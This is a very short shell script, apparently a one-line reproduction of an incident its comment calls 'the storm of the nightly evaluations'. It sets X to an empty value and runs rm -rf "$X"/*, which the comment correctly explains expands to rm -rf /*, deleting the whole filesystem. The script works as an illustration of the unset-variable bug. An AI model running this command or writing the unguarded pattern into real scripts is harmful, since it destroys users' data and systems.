# storm_rm.sh: the storm of the nightly evaluations, as one line: X is
# unset, so this is `rm -rf /*`.
X=
rm -rf "$X"/*
